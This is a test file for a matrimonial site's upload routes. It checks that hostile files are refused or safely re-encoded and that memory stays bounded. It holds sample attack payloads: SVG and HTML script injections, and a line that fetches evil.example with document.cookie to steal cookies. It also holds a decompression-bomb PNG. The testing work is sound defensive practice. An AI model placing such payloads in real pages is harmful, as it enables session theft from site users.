/**
 * Hostile files sent to every upload route: a member's photo, a member's horoscope file and the
 * operator's marriage photo. Each is refused with a clear 4xx in the error shape and leaves nothing
 * stored, or is stored re-encoded: no HTML or script inside, no EXIF or GPS (checked with exiftool,
 * which `npm install` brings). A body far over the limit is refused before it has all been sent. Twenty rounds of
 * all of it keep the process's memory within a bound.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { apiRoute, type ErrorCode, errorBodySchema } from '@varmala/shared';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { exiftoolReport } from '../exiftool.js';
import {
  type FilePart,
  GPS_EXIF,
  jpeg,
  multipart,
  pdf,
  pngDeclaring,
  storedFiles,
} from '../media-support.js';
import { makeAdmin, makeMember, NEW_PROFILE } from '../members.js';
import { streamBody } from '../stream-body.js';
import { bearer, type TestMember, useTestApp } from '../test-app.js';
import { expectOk, send } from './trust-support.js';

const ctx = useTestApp();
const MB = 1024 * 1024;

type Refusal = { status: 400 | 413 | 415; code: ErrorCode; message: string | RegExp };
type Outcome = Refusal | 'stored re-encoded' | 'stored as a download';
const refused = (status: Refusal['status'], code: ErrorCode, message: Refusal['message']): Refusal => ({
  status,
  code,
  message,
});
const NOT_A_PICTURE = refused(415, 'UNSUPPORTED_MEDIA_TYPE', 'Please choose a PNG, JPEG or GIF picture.');
const NOT_A_HOROSCOPE_FILE = refused(
  415,
  'UNSUPPORTED_MEDIA_TYPE',
  'Please choose a PNG, JPEG or GIF picture, a PDF or a Word (DOC, DOCX) file.',
);
const EMPTY_PHOTO = refused(400, 'BAD_REQUEST', 'The file is empty. Please choose a photo.');
const EMPTY_FILE = refused(400, 'BAD_REQUEST', 'A file is empty. Please choose it again.');
const DAMAGED = refused(400, 'BAD_REQUEST', /may be damaged/);
const TOO_MANY_PIXELS = refused(413, 'PAYLOAD_TOO_LARGE', /at most 40 megapixels/);
const PHOTO_TOO_LARGE = refused(
  413,
  'PAYLOAD_TOO_LARGE',
  'The photo is too large. The largest allowed is 10 MB.',
);
const FILE_TOO_LARGE = refused(
  413,
  'PAYLOAD_TOO_LARGE',
  'The file is too large. The largest allowed is 10 MB.',
);

interface Endpoint {
  url: () => string;
  field: string;
  fields?: Record<string, string>;
  who: () => TestMember;
  /** Deletes what an upload stored, so twenty rounds stay under the album's limits. */
  clear?: () => Promise<void>;
}

interface Hostile {
  /** File name and browser type as sent: both lie, the bytes decide. */
  name: string;
  type: string;
  bytes: () => Promise<Uint8Array>;
  photo: Outcome;
  attachment: Outcome;
  marriage: Outcome;
}

const ENDPOINTS = ['photo', 'attachment', 'marriage'] as const;
type EndpointName = (typeof ENDPOINTS)[number];

const text = (value: string) => async () => Buffer.from(value);
const polyglotTail = '<html><body><script>alert(document.cookie)</script></body></html>';

const HOSTILE: Record<string, Hostile> = {
  'an SVG with a script': {
    name: 'face.svg',
    type: 'image/svg+xml',
    bytes: text(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    ),
    photo: NOT_A_PICTURE,
    attachment: NOT_A_HOROSCOPE_FILE,
    marriage: NOT_A_PICTURE,
  },
  'an HTML page named .jpg': {
    name: 'face.jpg',
    type: 'image/jpeg',
    bytes: text(`<!doctype html>${polyglotTail}`),
    photo: NOT_A_PICTURE,
    attachment: NOT_A_HOROSCOPE_FILE,
    marriage: NOT_A_PICTURE,
  },
  'JavaScript named .jpg': {
    name: 'face.jpg',
    type: 'image/jpeg',
    bytes: text('fetch("https://evil.example/?c=" + document.cookie);'),
    photo: NOT_A_PICTURE,
    attachment: NOT_A_HOROSCOPE_FILE,
    marriage: NOT_A_PICTURE,
  },
  'a JPEG with an HTML page appended': {
    name: 'face.html',
    type: 'text/html',
    bytes: async () => Buffer.concat([await jpeg(320, 240), Buffer.from(polyglotTail)]),
    photo: 'stored re-encoded',
    attachment: 'stored re-encoded',
    marriage: 'stored re-encoded',
  },
  // Documents are kept as sent (DESIGN): a PDF-looking page is then only ever served as a download.
  'an HTML page behind a PDF header': {
    name: 'kundali.pdf',
    type: 'application/pdf',
    bytes: async () => Buffer.concat([pdf(), Buffer.from(polyglotTail)]),
    photo: NOT_A_PICTURE,
    attachment: 'stored as a download',
    marriage: NOT_A_PICTURE,
  },
  'a PNG declaring 20000 x 20000 pixels': {
    name: 'big.png',
    type: 'image/png',
    bytes: async () => pngDeclaring(20_000, 20_000),
    photo: TOO_MANY_PIXELS,
    attachment: TOO_MANY_PIXELS,
    marriage: TOO_MANY_PIXELS,
  },
  'a truncated JPEG': {
    name: 'cut.jpg',
    type: 'image/jpeg',
    bytes: async () => {
      const whole = await jpeg(800, 600);
      return whole.subarray(0, Math.floor(whole.length * 0.6));
    },
    photo: DAMAGED,
    attachment: DAMAGED,
    marriage: DAMAGED,
  },
  'an empty file': {
    name: 'empty.jpg',
    type: 'image/jpeg',
    bytes: async () => Buffer.alloc(0),
    photo: EMPTY_PHOTO,
    attachment: EMPTY_FILE,
    marriage: EMPTY_PHOTO,
  },
  'a JPEG with GPS and camera EXIF': {
    name: 'holiday.jpg',
    type: 'image/jpeg',
    bytes: () => jpeg(320, 240, GPS_EXIF),
    photo: 'stored re-encoded',
    attachment: 'stored re-encoded',
    marriage: 'stored re-encoded',
  },
  'a 30 MB file': {
    name: 'huge.jpg',
    type: 'image/jpeg',
    bytes: async () => Buffer.concat([await jpeg(), Buffer.alloc(30 * MB)]),
    photo: PHOTO_TOO_LARGE,
    attachment: FILE_TOO_LARGE,
    marriage: PHOTO_TOO_LARGE,
  },
};

let member: TestMember;
let admin: TestMember;
const corpus = new Map<string, Uint8Array>();

async function clearList(url: string) {
  const listed = expectOk(await send(ctx, member, { method: 'GET', url }), 'list');
  for (const { id } of listed.json<{ id: number }[]>()) {
    expectOk(await send(ctx, member, { method: 'DELETE', url, payload: { id } }), 'delete');
  }
}

const ENDPOINT: Record<EndpointName, Endpoint> = {
  photo: {
    url: () => `/api/profile/${member.userId}/photo`,
    field: 'photo',
    who: () => member,
    clear: () => clearList(`/api/profile/${member.userId}/photo`),
  },
  attachment: {
    url: () => `/api/profile/${member.userId}/attachment`,
    field: 'horoscope',
    who: () => member,
    clear: () => clearList(`/api/profile/${member.userId}/attachment`),
  },
  marriage: {
    url: () => apiRoute('uploadMarriage').url,
    field: 'photo',
    fields: { caption: 'Anitha weds Karthik' },
    who: () => admin,
  },
};

const forms = new Map<string, Awaited<ReturnType<typeof multipart>>>();

/** Each form is built once: twenty rounds then measure the server, not the building of test bodies. */
async function upload(endpoint: EndpointName, hostile: string) {
  const target = ENDPOINT[endpoint];
  const file = HOSTILE[hostile] as Hostile;
  const formKey = `${endpoint}: ${hostile}`;
  if (!forms.has(formKey)) {
    const part: FilePart = {
      field: target.field,
      name: file.name,
      type: file.type,
      bytes: corpus.get(hostile) as Uint8Array,
    };
    forms.set(formKey, await multipart([part], target.fields));
  }
  const form = forms.get(formKey) as Awaited<ReturnType<typeof multipart>>;
  return ctx.app.inject({
    method: 'POST',
    url: target.url(),
    headers: { 'content-type': form.contentType, ...bearer(target.who().token) },
    payload: form.payload,
  });
}

/** A refusal a member can act on: the status, the code, a sentence, nothing of the server's insides. */
function refusalProblems(outcome: Refusal, status: number, body: string): string[] {
  const problems: string[] = [];
  if (status !== outcome.status) problems.push(`status ${status}, expected ${outcome.status}: ${body}`);
  const parsed = errorBodySchema.safeParse(JSON.parse(body));
  if (!parsed.success) return [...problems, `not in the error shape: ${body}`];
  if (parsed.data.code !== outcome.code) problems.push(`code ${parsed.data.code}, expected ${outcome.code}`);
  const { Message } = parsed.data;
  const expected = outcome.message;
  if (typeof expected === 'string' ? Message !== expected : !expected.test(Message)) {
    problems.push(`message '${Message}', expected ${expected}`);
  }
  if (!/^[A-Z].{10,200}[.!]$/.test(Message)) problems.push(`not a sentence a member can read: ${Message}`);
  if (/error:|exception|sharp|vips|stack|\bat \w+ \(/i.test(Message)) {
    problems.push(`message reveals internals: ${Message}`);
  }
  return problems;
}

beforeAll(async () => {
  member = await makeMember(ctx, NEW_PROFILE);
  admin = await makeAdmin(ctx);
  for (const [name, file] of Object.entries(HOSTILE)) corpus.set(name, await file.bytes());
});

describe('hostile uploads', () => {
  const cases = ENDPOINTS.flatMap((endpoint) =>
    Object.keys(HOSTILE).map((hostile) => [endpoint, hostile] as const),
  );

  it('reads the planted GPS and camera tags in the file as sent, so their absence below means something', () => {
    const sent = `${ctx.dataDir}/holiday-as-sent.jpg`;
    writeFileSync(sent, corpus.get('a JPEG with GPS and camera EXIF') as Uint8Array);
    const report = exiftoolReport(sent);
    for (const tag of ['GPSLatitude', 'PhoneMaker', 'Asha Patil']) expect(report).toContain(tag);
  });

  it.each(cases)(
    'POST %s: %s is refused in the error shape or stored re-encoded',
    async (endpoint, hostile) => {
      const outcome = (HOSTILE[hostile] as Hostile)[endpoint];
      const before = new Set(storedFiles(ctx.dataDir).keys());
      const response = await upload(endpoint, hostile);
      const added = [...storedFiles(ctx.dataDir)].filter(([key]) => !before.has(key));

      if (typeof outcome === 'object') {
        expect(refusalProblems(outcome, response.statusCode, response.body)).toEqual([]);
        expect(added, 'a refused upload stores nothing').toEqual([]);
        return;
      }
      expect(response.statusCode, response.body).toBe(200);
      expect(added.length).toBeGreaterThan(0);
      const original = Buffer.from(corpus.get(hostile) as Uint8Array);
      for (const [key, file] of added) {
        const stored = readFileSync(file);
        if (outcome === 'stored as a download') {
          // Kept as sent; what matters is how it is served.
          const served = await ctx.app.inject({ method: 'GET', url: signedUrlIn(response.body, key) });
          expect(served.headers['content-type']).toBe('application/pdf');
          expect(served.headers['content-disposition']).toBe('attachment; filename="horoscope.pdf"');
          expect(served.headers['x-content-type-options']).toBe('nosniff');
          expect(served.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
          continue;
        }
        expect(stored.equals(original), `${key} is the original`).toBe(false);
        expect(stored.toString('latin1')).not.toMatch(/<html|<script|alert\(/i);
        const meta = await sharp(stored).metadata();
        expect([meta.exif, meta.xmp, meta.iptc], key).toEqual([undefined, undefined, undefined]);
        expect(exiftoolReport(file), key).not.toMatch(/GPS|PhoneMaker|Phone 12|Asha Patil/i);
      }
    },
  );

  it('refuses a 30 MB body with 413 before it has all been sent', async () => {
    const address = await ctx.app.listen({ port: 0, host: '127.0.0.1' });
    const port = Number(new URL(address).port);
    for (const endpoint of ENDPOINTS) {
      const target = ENDPOINT[endpoint];
      const result = await streamUpload(port, target.url(), target.who(), target.field, 30 * MB);
      expect(result.status, endpoint).toBe(413);
      expect(errorBodySchema.parse(JSON.parse(result.body)).code).toBe('PAYLOAD_TOO_LARGE');
      // The answer came while most of the body was still unsent: the server stopped at its limit
      // (10 MB), and does not go on reading the rest only to throw it away.
      expect(result.sentWhenAnswered, endpoint).toBeLessThan(20 * MB);
    }
    // Refused before a byte of the body is read: nobody logged in.
    const anonymous = await streamUpload(port, ENDPOINT.photo.url(), null, 'photo', 30 * MB);
    expect(anonymous.status).toBe(401);
    expect(anonymous.sentWhenAnswered).toBeLessThan(20 * MB);
  });

  it('keeps memory within bounds over 20 rounds of every hostile upload', { timeout: 120_000 }, async () => {
    const gc = exposedGc();
    const round = async () => {
      for (const endpoint of ENDPOINTS) {
        await ENDPOINT[endpoint].clear?.();
        for (const hostile of Object.keys(HOSTILE)) {
          const outcome = (HOSTILE[hostile] as Hostile)[endpoint];
          const response = await upload(endpoint, hostile);
          const expected = typeof outcome === 'object' ? outcome.status : 200;
          expect(response.statusCode, `${endpoint}: ${hostile}`).toBe(expected);
        }
        await ENDPOINT[endpoint].clear?.();
      }
    };
    await round(); // warm-up: code, pools and sharp's own buffers are in place before measuring
    gc();
    const before = process.memoryUsage();
    for (let i = 0; i < 20; i++) await round();
    gc();
    const after = process.memoryUsage();
    const grown = {
      rss: (after.rss - before.rss) / MB,
      heapUsed: (after.heapUsed - before.heapUsed) / MB,
      buffers: (after.arrayBuffers - before.arrayBuffers) / MB,
    };
    // Generous bounds. Twenty rounds send 60 bodies of 30 MB and decode about 120 pictures; keeping
    // what one upload reads (10 MB) alive per request would grow buffers and RSS by 600 MB. Healthy
    // runs grow RSS by about 60 MB (allocator and libvips arenas) and heap and buffers by a few MB.
    expect(grown.heapUsed, JSON.stringify(grown)).toBeLessThan(64);
    expect(grown.buffers, JSON.stringify(grown)).toBeLessThan(64);
    expect(grown.rss, JSON.stringify(grown)).toBeLessThan(256);
  });
});

function signedUrlIn(body: string, key: string): string {
  const match = new RegExp(`/api/media/${key.replace('.', '\\.')}\\?[^"]+`).exec(body);
  if (!match) throw new Error(`no URL for ${key} in ${body}`);
  return match[0];
}

/** `global.gc`, without restarting the worker with --expose-gc. */
function exposedGc(): () => void {
  setFlagsFromString('--expose-gc');
  return runInNewContext('gc') as () => void;
}

/** Sends a multipart upload of `size` bytes over a real socket, stopping once the server answers. */
async function streamUpload(port: number, path: string, who: TestMember | null, field: string, size: number) {
  const head = await multipart([{ field, name: 'huge.jpg', type: 'image/jpeg', bytes: await jpeg() }]);
  // The form as FormData builds it, with the file's bytes followed by `size` more bytes of padding.
  const text = head.payload.toString('latin1');
  const boundaryEnd = text.lastIndexOf('\r\n--');
  return streamBody({
    port,
    path,
    headers: { ...(who ? bearer(who.token) : {}), 'content-type': head.contentType },
    prefix: head.payload.subarray(0, boundaryEnd),
    size,
    suffix: head.payload.subarray(boundaryEnd),
  });
}
